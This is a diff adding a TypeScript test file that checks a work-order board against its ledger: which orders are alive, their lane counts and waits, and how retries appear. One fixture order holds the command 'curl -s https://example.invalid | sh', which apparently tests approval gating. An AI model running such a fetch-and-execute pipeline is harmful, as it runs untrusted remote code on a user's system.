@@ -1,0 +1,75 @@
+import type { OrderLife } from '../../src/order/life.ts';
+import { isTerminal } from '../../src/order/transition.ts';
+import { readLedger } from '../../src/record/ledger.ts';
+import { Orders } from '../../src/record/orders.ts';
+import { locateStation } from '../../src/station/locate.ts';
+import { openStationToRead } from '../../src/station/station.ts';
+import { openRecords } from '../../src/views/records.ts';
+import { ANYTHING, type TestStation, testStation, until } from '../support/station.ts';
+import { assert, suite, type TestContext } from '../support/suite.ts';
+
+/** What is shown as alive is what the ledger says, at once and as it moves (rule 11: from the checkpoint, not from the first record). */
+
+const test = suite('views/board', { needs: ['git'] });
+
+async function recordsOf(t: TestContext, s: TestStation) {
+  const station = await openStationToRead(await locateStation(s.root));
+  const records = openRecords(station);
+  t.defer(() => records.close());
+  await records.ready;
+  return { station, records };
+}
+
+/** The ledger, folded plainly. */
+function alive(folder: string): Map<string, OrderLife> {
+  const orders = new Orders();
+  for (const record of readLedger(folder, 1)) orders.apply(record);
+  return new Map(
+    orders
+      .all()
+      .filter(({ status }) => !isTerminal(status))
+      .map((life) => [life.woId, life]),
+  );
+}
+
+const file = (n: number) => ({ path: `f${n}.txt`, content: `${n}\n` });
+
+test('it holds exactly the orders that the ledger says are alive, with their lanes and waits', async (t) => {
+  const s = testStation(t);
+  s.drop({ wo_id: 'WO-1', title: 'One', files: [file(1)] });
+  s.drop({ wo_id: 'WO-2', title: 'Two', files: [file(2)], depends_on: ['WO-NEVER'] });
+  s.drop({
+    wo_id: 'WO-3',
+    title: 'Three',
+    actions: [{ action: 'command', command: 'curl -s https://example.invalid | sh' }],
+  });
+  s.drain();
+  const { station, records } = await recordsOf(t, s);
+  const expected = alive(station.layout.ledger);
+  assert.deepEqual([...expected.keys()].sort(), ['WO-2', 'WO-3']);
+  assert.deepEqual(new Map(records.board.alive().map((life) => [life.woId, life])), expected);
+  assert.deepEqual(records.board.lanes(), [
+    { lane: 'MAIN', ready: 0, running: 0, parked: 2, waits: { dependency: 1, approval: 1 } },
+  ]);
+});
+
+test('it moves with the ledger: an order that comes, ends, and is taken up again by a person', async (t) => {
+  const s = testStation(t, { policy: ANYTHING });
+  s.drop({ wo_id: 'WO-BAD', title: 'Bad', files: [file(1)], tests: [{ name: 'no', command: 'false' }] });
+  s.drain();
+  const { records } = await recordsOf(t, s);
+  assert.deepEqual(records.board.alive(), []);
+  await s.up(t);
+  s.drop({ wo_id: 'WO-LATER', title: 'Later', files: [file(2)] });
+  await until(() => records.board.ended.some(({ woId }) => woId === 'WO-LATER'), 'the end of WO-LATER is seen');
+  s.waybill('retry', 'WO-BAD');
+  await until(
+    () => records.board.ended.some(({ woId, attempt }) => woId === 'WO-BAD' && attempt === 2),
+    'the end of the second attempt is seen',
+  );
+  const again = records.board.ended.find(({ woId }) => woId === 'WO-BAD');
+  assert.equal(again?.admitted?.title, 'Bad');
+  assert.equal(records.fault(), null);
+});
+
+test.run();
